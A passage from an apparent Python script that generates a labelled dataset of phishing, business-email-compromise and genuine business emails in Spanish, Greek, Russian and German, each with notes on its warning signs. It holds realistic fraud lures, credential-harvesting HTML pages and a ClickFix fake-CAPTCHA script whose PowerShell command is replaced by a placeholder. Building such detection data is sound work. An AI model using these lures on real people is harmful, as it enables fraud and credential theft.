From: Piotr Wiśniewski <piotr.wisniewski@example.com>
Sent: Tuesday, November 24, 2026 4:12 PM
To: ksiegowosc@partner-logistik.pl
Subject: RE: Faktura FV/2026/11/0347 - Partner Logistik sp. z o.o.

Dzień dobry, faktura jest zaksięgowana, płatność planujemy w najbliższym przebiegu płatności 27.11.
Pozdrawiam, Piotr Wiśniewski
""" % fi(PL_FAKE2),
  what="Thread hijack from the genuinely compromised accounts mailbox of Partner Logistik: real domain and mail server, quoted real conversation, but Reply-To outlook.com and a 'temporary' mBank account.",
  why="Hardest BEC variant: authentic sender infrastructure (same server as business/22); signals are the Reply-To free-mail address, the webmail login from a Nigerian IP and the switch away from the known Pekao account.")

# --------------------------------------------------------------- Spanish --
M(kind=A, slug="aeat-requerimiento-modelo-180-zip", lang="es", cs="iso-8859-1", cte="quoted-printable",
  frm=("Agencia Tributaria", "notificaciones@agenciatributaria-sede.es"), to=[S["es_acc"]],
  rp="info@hostal-lasrosas-cuenca.es",
  dt="2026-11-23 10:09:33", mx=("cp-wc41.dinahosting.com", "cp-wc41.dinahosting.com", "82.98.135.41", "tls12"), client="phpmailer", msgid_domain="hostal-lasrosas-cuenca.es",
  subject="Notificación electrónica: requerimiento de información - Modelo 180 (arrendamientos urbanos)",
  text="""Estimado contribuyente:

Le comunicamos que tiene a su disposición una notificación de la Agencia Estatal de Administración Tributaria en la Dirección Electrónica Habilitada única (DEHú), relativa al procedimiento de comprobación de las retenciones e ingresos a cuenta sobre rendimientos procedentes del arrendamiento de inmuebles urbanos (Modelo 180, ejercicio 2025).

Referencia: 2026GRC28024971K
Plazo de atención: 10 días hábiles desde la recepción.

Para su comodidad se adjunta una copia del requerimiento y de la relación de perceptores con discrepancias. Contraseña de apertura: AEAT2026

Transcurrido el plazo sin atender el requerimiento se podrá iniciar el correspondiente procedimiento sancionador conforme al artículo 203 de la Ley 58/2003, General Tributaria.

Agencia Tributaria
Delegación Especial de Madrid
""",
  atts=[("Requerimiento_2026GRC28024971K.zip", "application/zip",
         make_zip([("Requerimiento_2026GRC28024971K.pdf.vbs", "' " + PLACEHOLDER)], (2026, 11, 23, 9, 50, 0)))],
  what="Fake Spanish tax agency (AEAT) request about Modelo 180 (withholding on rents – trade-specific) with a password-protected ZIP containing an inert .pdf.vbs placeholder.",
  why="AEAT notifies only via DEHú/sede and never attaches files; non-gob.es sender, Return-Path of a compromised guesthouse, script in encrypted archive.")

M(kind=A, slug="paypal-solicitud-callback-infra-legitima", lang="es", cs="utf-8", cte="quoted-printable",
  frm=("PayPal", "service@paypal.es"), to=[S["es_om"]], rp="paypal@mail.paypal.es",
  dt="2026-11-14 18:22:07", mx=("mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.225"), client="generic", msgid_domain="paypal.es",
  subject="Solicitud de dinero de Soporte Técnico Facturación (312,80 EUR)",
  html=notif("PayPal", "#003087",
             "<p>Hola, Carmen López:</p><p><b>Soporte Técnico Facturación</b> te ha enviado una solicitud de dinero por importe de <b>312,80 EUR</b>.</p>"
             "<p style='background:#f5f7fa;padding:12px;border-left:3px solid #003087'><b>Nota del vendedor:</b><br>Su suscripción anual a Norton 360 Business se ha renovado automáticamente por 312,80 EUR. "
             "Si no reconoce este cargo, llame de inmediato al +34 911 23 87 45 para cancelarlo y recibir el reembolso. No pague esta solicitud si desea la cancelación.</p>",
             ("Pagar ahora", "https://www.paypal.com/myaccount/transfer/requests/9XK27415BN3390218"),
             "PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg<br>Copyright © 1999-2026 PayPal. Todos los derechos reservados.", "es"),
  what="Callback phishing abusing PayPal's genuine money-request feature: mail really comes from PayPal infrastructure; the fraud is the phone number in the seller note.",
  why="Service abuse – sender, links and servers are legitimate; only the note text ('Norton renewal, call this number') is malicious; targets a company that has no PayPal relationship.")

M(kind=A, slug="idealista-verificacion-mandrill", lang="es", cs="iso-8859-15", cte="base64",
  frm=("idealista/tools", "avisos@idealista-pro.com"), to=[S["es_om"]],
  rp="bounce-md_31847720.6b1e0c4a.v1-9f2a7c4e1b3d4a8f@mandrillapp.com",
  dt="2026-11-08 20:05:52", mx=("mail181-3.suw21.mandrillapp.com", "mail181-3.suw21.mandrillapp.com", "198.2.181.3"), client="bulk", msgid_domain="mandrillapp.com",
  html_only=True,
  subject="Tu cuenta profesional será suspendida: verifica tus datos de facturación",
  html=notif("idealista", "#e1f000",
             "<p>Hola,</p><p>no hemos podido cobrar la cuota mensual de tu plan <b>Profesional 50</b> (189,00 € + IVA). Tu entidad bancaria ha devuelto el recibo.</p>"
             "<p>Para evitar que tus <b>31 anuncios activos</b> dejen de mostrarse el próximo lunes, actualiza tus datos de facturación desde tu área privada.</p>",
             ("Actualizar datos de facturación", "https://mandrillapp.com/track/click/31847720/idealista-pro.com?p=eyJzIjoiWGtwM0x2Iiwidi"),
             "idealista S.A.U. · Plaza de las Cortes 2, 28014 Madrid", "es",
             '<span style="color:#222">idealista</span>').replace("color:#ffffff;font-weight:bold", "color:#222222;font-weight:bold"),
  what="Fake idealista (Spanish property portal) billing failure, HTML-only through Mandrill, link via click tracking to a payment-card form.",
  why="Look-alike domain idealista-pro.com, payment-data lure with listing-removal threat, sent at 20:00 on a Sunday; genuine idealista notification is business/29.")

M(kind=A, slug="ceo-fraud-abogado-opa-confidencial", lang="es", cs="utf-8", cte="quoted-printable",
  frm=("Ignacio Valverde Ruiz", "i.valverde@valverde-abogados-madrid.com"), to=[S["es_acc"]],
  dt="2026-11-27 11:43:09", mx=("mout.kundenserver.de", "mout.kundenserver.de", "212.227.126.187"), client="thunderbird", msgid_domain="valverde-abogados-madrid.com",
  up=[U_sa("mrelayeu.kundenserver.de", "89.117.74.12", "unknown", helo="[192.168.0.104]", soft="mreue009")],
  subject="Operación confidencial – instrucciones de D. Markus Hoffmann",
  text="""Estimado Sr. Martín:

Me pongo en contacto con usted por indicación de D. Markus Hoffmann, Consejero Delegado del Grupo, en relación con la adquisición del edificio de oficinas de la calle Orense, 34, que nuestro despacho asesora por parte de Example Group.

La operación está sujeta a un acuerdo de confidencialidad estricto hasta su comunicación oficial, por lo que le ruego no la comente con otras personas de la oficina de Madrid ni con el departamento financiero de Fráncfort; el Sr. Hoffmann informará personalmente a la Sra. Berger.

Para asegurar la exclusividad es necesario transferir hoy, antes de las 14:00, el importe de 248.600,00 € en concepto de arras a la cuenta de consignación del vendedor:

Beneficiario: OC Orense Escrow Services UAB
IBAN: %s
Concepto: Arras Orense 34 – EXG

En breve recibirá un correo del Sr. Hoffmann confirmando estas instrucciones. Quedo a su disposición en este correo; hoy estoy en reuniones y no puedo atender llamadas.

Atentamente,

Ignacio Valverde Ruiz
Socio – Derecho Inmobiliario
Valverde Abogados
""" % fi(LT_FAKE),
  what="Two-persona CEO fraud: fake lawyer 'on behalf of the CEO' demands a confidential €248,600 deposit to a Lithuanian account today.",
  why="Unknown law firm on IONOS, secrecy towards Madrid colleagues and HQ finance, same-day deadline, foreign 'escrow' IBAN, cannot be phoned.")

CLICKFIX_CMD = "powershell -w h -c \"<INERT-TEST-PLACEHOLDER: command removed>\""
M(kind=A, slug="notaria-copia-simple-html-clickfix", lang="es", cs="iso-8859-1", cte="quoted-printable",
  frm=("Notaría Fernández Olmedo", "copias@notariafernandezolmedo.es"), to=[S["es_om"]],
  dt="2026-12-04 09:12:40", mx=("srv127.cdmon.net", "srv127.cdmon.net", "185.66.41.127", "tls12"), client="roundcube",
  up=[U_sa("srv127.cdmon.net", "62.60.233.17", "unknown", helo="[10.8.0.6]")],
  subject="Copia simple - escritura de arrendamiento, protocolo 2.418/2026",
  text="""Buenos días:

Les remitimos copia simple electrónica de la escritura de arrendamiento de local de negocio autorizada en esta Notaría el pasado 1 de diciembre, número 2.418 de protocolo, para su revisión antes de la presentación en el Registro.

El documento se adjunta en formato protegido. Al abrirlo se le pedirá una verificación de seguridad para confirmar que no es un sistema automatizado.

Un saludo,

Departamento de Copias
Notaría Fernández Olmedo
""",
  atts=[("Copia_simple_protocolo_2418_2026.html", "text/html", ("""<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Verificación de seguridad</title>
<style>body{font-family:Arial;background:#f4f4f4}.c{width:460px;margin:80px auto;background:#fff;padding:30px;border:1px solid #ddd}
.s{display:none;background:#fafafa;border:1px solid #ccc;padding:14px;margin-top:14px}</style></head>
<body><div class="c"><h3>Verifique que es un ser humano</h3>
<p><label><input type="checkbox" id="cb"> No soy un robot</label></p>
<div class="s" id="st"><b>Pasos de verificación</b><ol>
<li>Pulse la tecla Windows + R</li><li>Pulse CTRL + V</li><li>Pulse Intro</li></ol>
<p>ID de verificación: 48213</p></div></div>
<script>/* evaluation sample: ClickFix pattern, clipboard payload replaced by an inert placeholder */
document.getElementById("cb").onclick=function(){navigator.clipboard.writeText(%s);document.getElementById("st").style.display="block";};</script>
</body></html>
""" % repr(CLICKFIX_CMD).replace("'", '"')).encode("utf-8"))],
  what="'ClickFix' lure: fake notary copy as HTML attachment showing a fake CAPTCHA that copies a command to the clipboard and tells the user to run it via Win+R (command replaced by inert placeholder).",
  why="Newest social-engineering execution technique (2025/26): user runs the payload themselves; HTML attachment with clipboard write and Win+R instructions from a compromised notary mailbox.")

# ----------------------------------------------------------------- Greek --
M(kind=A, slug="aade-epistrofi-enfia", lang="el", cs="iso-8859-7", cte="quoted-printable",
  frm=("ΑΑΔΕ - myAADE", "enimerosi@aade-gov.gr.com"), to=[S["gr_acc"]],
  dt="2026-11-16 10:40:21", tz="+0200", mx=("mail.aade-gov.gr.com", "unknown", "194.26.29.113", "none"), client="generic", msgid_domain="aade-gov.gr.com",
  subject="Ειδοποίηση: Επανεκκαθάριση ΕΝΦΙΑ 2026 - διαθέσιμη επιστροφή ποσού",
  text="""Αγαπητέ φορολογούμενε,

κατόπιν επανεκκαθάρισης του Ενιαίου Φόρου Ιδιοκτησίας Ακινήτων (ΕΝΦΙΑ) έτους 2026 για τα ακίνητα νομικών προσώπων, προέκυψε ποσό επιστροφής 1.284,60 ευρώ υπέρ της επιχείρησής σας (ΑΦΜ %s).

Για την απόδοση του ποσού απαιτείται επιβεβαίωση του λογαριασμού IBAN επιστροφής μέσω της εφαρμογής myAADE, εντός 5 εργάσιμων ημερών. Μετά την παρέλευση της προθεσμίας το ποσό συμψηφίζεται αυτόματα.

Είσοδος με κωδικούς Taxisnet:
https://myaade-epistrofi.com/gsis/login?afm=%s

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Φορολογικής Διοίκησης
""" % (GR_AFM_EXG, GR_AFM_EXG),
  what="Fake Greek tax authority (AADE) ENFIA property-tax refund, asking to log in with Taxisnet credentials and confirm the refund IBAN.",
  why="Refund lure on aade-gov.gr.com (real: aade.gr / gsis.gr), link to look-alike login, sender IP without rDNS/TLS, 5-day deadline.")

M(kind=A, slug="dei-diakopi-revmatos", lang="el", cs="windows-1253", cte="base64",
  frm=("ΔΕΗ - Εξυπηρέτηση Πελατών", "e-bill@dei-ebill.gr"), to=[S["gr_pm"]],
  dt="2026-11-20 08:15:44", tz="+0200", mx=("mta12.dei-ebill.gr", "vm1133.hostinger-cloud.net", "91.92.243.133", "tls12"), client="bulk", msgid_domain="dei-ebill.gr",
  subject="Ειδοποίηση διακοπής ηλεκτροδότησης – Αρ. Παροχής 1 23456789-01 2",
  html=notif("ΔΕΗ myDEI", "#0057b8",
             "<p>Αξιότιμε πελάτη,</p><p>ο λογαριασμός ρεύματος για την παροχή <b>1 23456789-01 2</b> (Λεωφ. Κηφισίας 124, Μαρούσι) παραμένει ανεξόφλητος.</p>"
             "<p>Ανεξόφλητο ποσό: <b>2.318,47 €</b><br>Ημερομηνία προγραμματισμένης διακοπής: <b>27/11/2026</b></p>"
             "<p>Για να αποφύγετε τη διακοπή και το τέλος επανασύνδεσης, εξοφλήστε άμεσα με κάρτα μέσω της ασφαλούς πληρωμής:</p>",
             ("Πληρωμή λογαριασμού", "https://dei-ebill.gr/mydei/pay?paroxi=123456789012"),
             "ΔΕΗ Α.Ε. · Χαλκοκονδύλη 30, 104 32 Αθήνα<br>Αυτό το μήνυμα στάλθηκε αυτόματα.", "el"),
  what="Fake Greek power utility (ΔΕΗ/PPC) disconnection notice for an office building, card-payment link.",
  why="Utility brand on a look-alike domain hosted at a VPS provider, disconnection threat in 7 days, card payment via link; real PPC mail comes from dei.gr.")

M(kind=A, slug="technoservice-lookalike-allagi-iban", lang="el", cs="utf-8", cte="quoted-printable",
  frm=("Γιώργος Αντωνίου", "g.antoniou@technoservice-athens.com"), to=[S["gr_acc"]], cc=[S["gr_pm"]],
  dt="2026-12-02 12:26:18", tz="+0200", mx=GM("sor-f41", "209.85.220.41"), client="gmail", msgid_domain="technoservice-athens.com", auto_html="gmail",
  up=[U_gmail("mail-sor-f41.google.com")],
  subject="Αλλαγή τραπεζικού λογαριασμού – Τεχνοσέρβις Αθηνών Α.Ε.",
  text="""Αξιότιμε κύριε Γεωργίου,

σας ενημερώνουμε ότι λόγω μεταφοράς της τραπεζικής μας συνεργασίας, από 01/12/2026 οι πληρωμές για τα τιμολόγια συντήρησης ανελκυστήρων και HVAC θα πρέπει να γίνονται αποκλειστικά στον νέο λογαριασμό της εταιρείας:

Δικαιούχος: ΤΕΧΝΟΣΕΡΒΙΣ ΑΘΗΝΩΝ Α.Ε.
Τράπεζα: Eurobank
IBAN: %s

Ο παλαιός λογαριασμός στην Τράπεζα Πειραιώς κλείνει και τυχόν καταθέσεις θα επιστρέφονται. Παρακαλούμε να εξοφλήσετε στον νέο λογαριασμό και το ΤΠΥ 1543 (4.960,00 €), το οποίο είναι ήδη ληξιπρόθεσμο.

Θα εκτιμούσαμε μια σύντομη επιβεβαίωση της αλλαγής.

Με εκτίμηση,
Γιώργος Αντωνίου
Οικονομική Διεύθυνση
Τεχνοσέρβις Αθηνών Α.Ε.
""" % fi(GR_FAKE),
  what="Supplier bank change for the Athens lift/HVAC contractor from technoservice-athens.com (genuine: .gr) using Google Workspace.",
  why="Look-alike domain, bank switch with 'old account closing', pushes an overdue invoice to the new IBAN; genuine invoices (business/32) name the Piraeus account.")

M(kind=A, slug="spitogatos-mhnyma-html-anhang", lang="el", cs="utf-8", cte="base64",
  frm=("Spitogatos Pro", "support@villa-kalimera-naxos.gr"), to=[S["gr_pm"]],
  reply_to=("Spitogatos Pro", "no-reply@spitogatos-pro.gr"),
  dt="2026-11-09 17:33:05", tz="+0200", mx=("cloud419.cp-server.gr", "cloud419.cp-server.gr", "195.201.179.19", "tls12"), client="phpmailer", msgid_domain="villa-kalimera-naxos.gr",
  subject="Νέο αίτημα επικοινωνίας για την αγγελία σας #1184207 (Γραφεία 420 τ.μ., Μαρούσι)",
  text="""Καλησπέρα σας,

ένας ενδιαφερόμενος επαγγελματίας σάς έστειλε μήνυμα για την αγγελία #1184207 (Γραφεία 420 τ.μ., Μαρούσι).

Για λόγους προστασίας προσωπικών δεδομένων, το μήνυμα και τα στοιχεία επικοινωνίας του ενδιαφερόμενου επισυνάπτονται σε ασφαλές αρχείο. Ανοίξτε το συνημμένο και συνδεθείτε με τα στοιχεία του λογαριασμού σας Spitogatos Pro για να το διαβάσετε.

Η ομάδα του Spitogatos
""",
  atts=[("Spitogatos_Minima_1184207.html", "text/html",
         phish_page("Spitogatos Pro - Σύνδεση", "Σύνδεση στο Spitogatos Pro", "Συνδεθείτε για να δείτε το μήνυμα του ενδιαφερόμενου.",
                    "https://spitogatos-pro.gr/auth/session", "eleni.papadopoulou@example.com", "#f26522", "el", "E-mail", "Κωδικός", "Σύνδεση").encode("utf-8"))],
  what="Fake Spitogatos (Greek property portal) lead notification sent from a compromised Naxos holiday-villa website, with an HTML login-page attachment.",
  why="Brand name with an unrelated sender domain, Reply-To to a look-alike, credential form as HTML attachment with hidden post target.")

# --------------------------------------------------------------- Russian --
M(kind=A, slug="fns-trebovanie-poyasneniy-zip", lang="ru", cs="windows-1251", cte="base64",
  frm=("Межрайонная ИФНС России № 46 по г. Москве", "uvedomlenie@nalog-gov.ru"), to=[S["ru_acc"]],
  dt="2026-11-18 10:02:51", tz="+0300", mx=("nalog-gov.ru", "unknown", "5.188.206.14", "none"), client="generic", msgid_domain="nalog-gov.ru",
  subject="Требование о представлении пояснений № 15-09/48217 (ст. 88 НК РФ)",
  text="""Уважаемый налогоплательщик!

В ходе камеральной налоговой проверки налоговой декларации по НДС за 3 квартал 2026 года, представленной ООО «Экзампл Груп Рус» (ИНН %s), выявлены расхождения в сведениях об операциях по договорам аренды нежилых помещений.

В соответствии с пунктом 3 статьи 88 Налогового кодекса Российской Федерации Вам необходимо в течение пяти рабочих дней со дня получения настоящего требования представить пояснения или внести соответствующие исправления в налоговую декларацию.

Требование и перечень выявленных расхождений направлены во вложении (архив защищён паролем: 48217).

Непредставление пояснений в установленный срок влечёт ответственность по статье 129.1 НК РФ.

Начальник отдела камеральных проверок № 2
Межрайонная ИФНС России № 46 по г. Москве
""" % RU_INN_EXG,
  atts=[("Trebovanie_15-09_48217.zip", "application/zip",
         make_zip([("Trebovanie_15-09_48217.pdf.scr", PLACEHOLDER), ("Perechen_rashozhdeniy.xls.lnk", PLACEHOLDER)], (2026, 11, 18, 9, 44, 0)))],
  what="Fake Russian tax service (ФНС) demand for explanations on VAT/rent discrepancies with an encrypted ZIP (inert .pdf.scr / .xls.lnk placeholders).",
  why="FNS sends such demands via ЭДО (TKS) only, not by e-mail; domain nalog-gov.ru (real: nalog.gov.ru) on a bullet-proof IP without rDNS or TLS; executable extensions.")

M(kind=A, slug="diadok-dokument-na-podpis", lang="ru", cs="koi8-r", cte="quoted-printable",
  frm=("Контур.Диадок", "noreply@diadoc-kontur.ru.com"), to=[S["ru_head"]],
  dt="2026-11-24 11:48:37", tz="+0300", mx=("mx.diadoc-kontur.ru.com", "unknown", "45.155.205.92", "tls12"), client="bulk", msgid_domain="diadoc-kontur.ru.com",
  subject="Документ на подпись: дополнительное соглашение 3 к договору аренды N 17/2025",
  text="""Здравствуйте!

Вам поступил документ, требующий подписи:

Отправитель: ООО "Бизнес-Парк Лесная"
Документ: Дополнительное соглашение 3 к договору аренды N 17/2025 (индексация арендной ставки с 01.01.2027)
Срок подписания: 26.11.2026

Для просмотра и подписания документа перейдите в веб-версию Диадока:
https://diadoc-kontur.ru.com/Box/Documents/7a3e21f0?login=dmitry.volkov%40example.com

Если документ не будет подписан в указанный срок, отправитель вправе считать его принятым без возражений.

С уважением,
Контур.Диадок
Это письмо сформировано автоматически, отвечать на него не нужно.
""",
  what="Fake Kontur.Diadoc EDO (electronic document exchange) notification: 'lease addendum awaiting your signature' linking to a credential page.",
  why="Look-alike domain diadoc-kontur.ru.com (real: diadoc.kontur.ru), deemed-acceptance pressure, login parameter prefilled; KOI8-R legacy encoding from a bulk host without rDNS.")

M(kind=A, slug="fake-boss-kurator-fsb-mailru", lang="ru", cs="utf-8", cte="base64",
  frm=("Дмитрий Волков", "dmitry.volkov.msk@mail.ru"), to=[S["ru_acc"]],
  dt="2026-11-26 09:21:44", tz="+0300", mx=("smtp49.i.mail.ru", "smtp49.i.mail.ru", "94.100.177.109"), client="mailru", msgid_domain="mail.ru",
  subject="Ольга, срочно и конфиденциально",
  text="""Ольга, добрый день.

Пишу с личной почты, рабочую сейчас использовать не могу по понятной причине.

В отношении нашего офиса проводится проверка Центробанком совместно с ФСБ по факту возможной утечки данных арендаторов и сомнительных операций по нашим счетам. Сегодня с тобой свяжется куратор проверки, полковник Лебедев Сергей Викторович.

Прошу оказать ему полное содействие и выполнять его указания, в том числе по переводу средств на защищённый счёт на время проверки. Это согласовано со мной и с Франкфуртом.

Никому из коллег об этом не сообщай, в том числе в бухгалтерии и в головном офисе, – это условие проверки, разглашение может быть квалифицировано по статье 310 УК РФ.

Об итогах доложишь мне лично.

Д. В.
""",
  what="'Fake boss' pretext (widespread in Russia 2024-26): the office head's name on a mail.ru address announces a call from an 'FSB curator' and demands secrecy – prelude to a vishing/‘safe account’ transfer.",
  why="Executive impersonation from free mail, authority impersonation, secrecy with criminal-law threat, 'safe account' transfer; no legitimate process works this way.")

M(kind=A, slug="stroyexp-lookalike-novye-rekvizity", lang="ru", cs="windows-1251", cte="quoted-printable",
  frm=("Бухгалтерия СтройЭксплуатация", "buh@stroy-exp.ru"), to=[S["ru_acc"]],
  dt="2026-12-01 14:35:02", tz="+0300", mx=("mail.stroy-exp.ru", "vds1244785.my-ihor.ru", "62.109.18.77", "tls12"), client="thebat",
  subject="Акт сверки и счёт на оплату за ноябрь – изменились реквизиты",
  text="""Добрый день, Ольга!

Направляем акт сверки взаимных расчётов по состоянию на 30.11.2026 и счёт № 1147 от 01.12.2026 за техническое обслуживание инженерных систем БЦ на ул. Лесной за ноябрь (486 000,00 руб., в т. ч. НДС 22%%).

Обращаем внимание: с 1 декабря в связи с переходом на обслуживание в другой банк изменились наши платёжные реквизиты. Просим проводить оплату только по новым реквизитам:

Получатель: ООО «СтройЭксплуатация»
ИНН %s, КПП 771401001
р/с %s
АО «ТБанк», БИК %s
к/с %s

Платежи на старый счёт в ПАО Сбербанк банк возвращает. Подписанные документы направим через ЭДО в течение недели.

С уважением,
Марина Климова
главный бухгалтер
ООО «СтройЭксплуатация»
""" % (RU_INN_GEN, RU_RS_FAKE, RU_BIK_TB, RU_KS_TB),
  atts=[pdf("Schet_1147_ot_01.12.2026.pdf", "Schet na oplatu No. 1147 ot 01.12.2026",
            ["Postavshchik: OOO StroyEkspluatatsiya, INN " + RU_INN_GEN, "r/s " + RU_RS_FAKE + ", AO TBank, BIK " + RU_BIK_TB,
             "Summa: 486 000,00 rub., v t.ch. NDS 22%"], "buh", "1C:Enterprise 8.3", "20261201142000+03'00'")],
  what="Invoice with changed payment details from stroy-exp.ru, a look-alike of the Moscow maintenance contractor stroyexp.ru; valid INN/BIK/account keys copied or computed.",
  why="Look-alike domain on a cheap VDS, bank change bundled with the regular monthly invoice, 'old account returns payments'; genuine contractor (business/36) banks with Sberbank.")

M(kind=A, slug="sberbiznes-operaciya-priostanovlena", lang="ru", cs="utf-8", cte="base64",
  frm=("СберБизнес", "info@sberbusiness-online.ru"), to=[S["ru_head"]],
  dt="2026-11-05 19:10:26", tz="+0300", mx=("mail-out7.sberbusiness-online.ru", "unknown", "185.225.74.31", "tls12"), client="bulk", msgid_domain="sberbusiness-online.ru",
  html_only=True,
  subject="Операция приостановлена: требуется подтверждение (115-ФЗ)",
  html=notif("СберБизнес", "#21a038",
             "<p>Уважаемый клиент!</p><p>Операция по расчётному счёту ****3456 на сумму <b>1 284 600,00 ₽</b> приостановлена в соответствии с Федеральным законом № 115-ФЗ до предоставления подтверждающих документов.</p>"
             "<p>Чтобы избежать ограничения доступа к системе дистанционного банковского обслуживания, подтвердите операцию и загрузите документы в течение <b>24 часов</b>.</p>",
             ("Подтвердить операцию", "https://sberbusiness-online.ru/sbbol/confirm?op=7741-3456"),
             "ПАО Сбербанк · 117312, г. Москва, ул. Вавилова, д. 19<br>Генеральная лицензия Банка России № 1481", "ru"),
  what="Fake SberBusiness (online banking) message: payment suspended under AML law 115-FZ, confirm within 24 hours.",
  why="Bank brand on look-alike domain without rDNS, 24-hour threat of banking access block, credential link; HTML-only.")

# ==========================================================================
# GENUINE BUSINESS MESSAGES
# ==========================================================================
B = "business"
LIEF_MX = ("mail.lieferant-gmbh.de", "mail.lieferant-gmbh.de", "217.160.54.118", "tls13")
LIEF_UP = U_sa("mail.lieferant-gmbh.de", "93.208.161.178", "p5dd0a1b2.dip0.t-ipconnect.de")

# ---------------------------------------------------------------- German --
M(kind=B, slug="lieferant-rechnung-zugferd", lang="de", cs="iso-8859-15", cte="quoted-printable",
  frm=("Lieferant GmbH - Buchhaltung", "rechnungen@lieferant-gmbh.de"), to=[S["ap"]],
  dt="2026-11-02 10:14:37", mx=LIEF_MX, client="generic", up=[U_local("mail.lieferant-gmbh.de (Postfix)")],
  headers=["X-Mailer: Microsoft Dynamics 365 Business Central"],
  subject="Rechnung RE-2026-10877 vom 02.11.2026 - Objekt Mainzer Landstraße 120",
  text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-10877 vom 02.11.2026 für die Wartungs- und Reinigungsleistungen im Oktober 2026, Objekt Mainzer Landstraße 120, 60327 Frankfurt am Main.

Rechnungsbetrag: 8.946,12 € (netto 7.517,75 € zzgl. 19 %% USt 1.428,37 €)
Zahlbar bis: 02.12.2026 ohne Abzug
Ihre Bestellnummer: PO-FFM-2026-0412

Die Rechnung ist als ZUGFeRD-Datei (Profil EN 16931) erstellt; die eingebetteten XML-Daten können direkt in Ihr System übernommen werden.

Bitte überweisen Sie den Betrag unter Angabe der Rechnungsnummer auf unser Konto bei der Commerzbank:
IBAN %s · BIC COBADEFFXXX

Bei Rückfragen zur Rechnung erreichen Sie uns unter 069 4090 3310 oder rechnungen@lieferant-gmbh.de.

Mit freundlichen Grüßen
Ihre Buchhaltung

Lieferant GmbH · Gutleutstraße 85 · 60329 Frankfurt am Main
Geschäftsführer: Rainer Lenz · HRB 104552 AG Frankfurt am Main · USt-IdNr. %s
""" % (fi(LIEF_OLD), DE_UST_LIEF),
  atts=[pdf("RE-2026-10877.pdf", "Lieferant GmbH - Rechnung RE-2026-10877",
            ["Rechnungsdatum 02.11.2026 - Leistungszeitraum 10/2026", "Objekt Mainzer Landstrasse 120", "Netto 7.517,75 EUR  USt 19% 1.428,37 EUR  Brutto 8.946,12 EUR",
             "Zahlbar bis 02.12.2026 auf IBAN " + fi(LIEF_OLD), "USt-IdNr. " + DE_UST_LIEF], "Lieferant GmbH", "Business Central / ZUGFeRD 2.3", "20261102101200+01'00'")],
  what="Regular monthly invoice from Lieferant GmbH accounts with ZUGFeRD PDF, known Commerzbank account.",
  why="Genuine: correct domain and the supplier's own mail server, expected recurring invoice, unchanged bank details, PO reference.")

M(kind=B, slug="lieferant-echte-bankwechsel-ankuendigung", lang="de", cs="utf-8", cte="quoted-printable",
  frm=("Stefan Maier", "s.maier@lieferant-gmbh.de"), to=[S["ap"]], cc=[("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de"), S["ap2"]],
  dt="2026-11-20 11:32:09", mx=LIEF_MX, client="outlook", up=[LIEF_UP], msgid_domain="lieferant-gmbh.de",
  subject="Änderung unserer Bankverbindung zum 01.01.2027 – bitte telefonisch verifizieren",
  text="""Sehr geehrte Frau Krüger,

wie gestern bereits telefonisch mit Herrn Weber besprochen, wechselt die Lieferant GmbH zum 1. Januar 2027 ihre Hausbank.

Bis einschließlich 31.12.2026 bleibt die Ihnen bekannte Verbindung bei der Commerzbank unverändert gültig – bitte zahlen Sie alle Rechnungen mit Fälligkeit in diesem Jahr weiterhin dorthin.

Ab dem 01.01.2027 gilt:
Frankfurter Volksbank Rhein/Main eG
IBAN %s
BIC FFVBDEFFXXX

Da in letzter Zeit gefälschte E-Mails mit angeblich geänderten Bankdaten im Umlauf sind – auch in unserem Namen –, bitten wir Sie ausdrücklich, die Änderung nicht allein aufgrund dieser E-Mail vorzunehmen. Bitte bestätigen Sie sie telefonisch über die Ihnen bekannte Zentrale (069 4090 3310). Das von unserer Geschäftsführung unterzeichnete Schreiben erhalten Sie zusätzlich per Post.

Vielen Dank und freundliche Grüße

Stefan Maier
Key Account Management
Lieferant GmbH
Gutleutstraße 85 | 60329 Frankfurt am Main
Tel. +49 69 4090 3318 | s.maier@lieferant-gmbh.de
""" % fi(LIEF_NEW),
  atts=[pdf("Lieferant_GmbH_Bankwechsel_01-01-2027.pdf", "Lieferant GmbH - Aenderung der Bankverbindung zum 01.01.2027",
            ["Bis 31.12.2026: Commerzbank " + fi(LIEF_OLD), "Ab 01.01.2027: Frankfurter Volksbank " + fi(LIEF_NEW),
             "Bitte telefonisch verifizieren: 069 4090 3310", "Rainer Lenz, Geschaeftsfuehrer"], "Lieferant GmbH", when="20261119170500+01'00'")],
  what="Genuine bank-detail change by Lieferant GmbH: announced by phone first, effective in the future, old account stays valid, asks for call-back verification.",
  why="Genuine: real domain and the same mail server as its invoices, no pressure to redirect open items, explicit out-of-band verification, German domestic bank.")

M(kind=B, slug="intern-cfo-grunderwerbsteuer-dringend", lang="de", cs="iso-8859-1", cte="quoted-printable",
  frm=S["cfo"], to=[S["ap"]], cc=[S["treas"]],
  dt="2026-11-10 09:07:52", mx=INTERNAL, client="exchange-int", up=[U_int()], auto_html="exo",
  subject="DRINGEND: Grunderwerbsteuer Eschborn Süd - Zahlung heute",
  text="""Hallo Sabine,

bitte heute noch die Grunderwerbsteuer für Eschborn Süd anweisen. Der Bescheid des Finanzamts Hofheim am Taunus vom 28.10. liegt im DMS unter Transaktionen/Eschborn/Steuern (Kreditor 700112 FA Hofheim, Steuernummer 046 240 71893).

Betrag: 1.387.500,00 EUR (6 % auf 23.125.000,00 EUR)
Fälligkeit: morgen, 11.11.

Wenn das nicht rechtzeitig eingeht, verzögert sich die Unbedenklichkeitsbescheinigung und damit die Eigentumsumschreibung. Die Bankverbindung steht auf dem Bescheid (Landesbank Hessen-Thüringen, Finanzkasse), bitte nicht aus einer E-Mail übernehmen.

Die zweite Freigabe im Banking mache ich, sobald der Auftrag drin ist. Thomas ist wegen der Liquidität informiert.

Danke dir!
Claudia

Claudia Berger
Chief Financial Officer
Example Group | Taunusanlage 8 | 60329 Frankfurt am Main
""",
  what="Internal urgent payment request from the CFO (via the internal relay) to pay real-estate transfer tax today.",
  why="Genuine: internal sender through mail-int01, refers to documents in the DMS and the normal 4-eyes banking release, no new bank details.")

M(kind=B, slug="notar-faelligkeitsmitteilung-kaufpreis", lang="de", cs="utf-8", cte="quoted-printable",
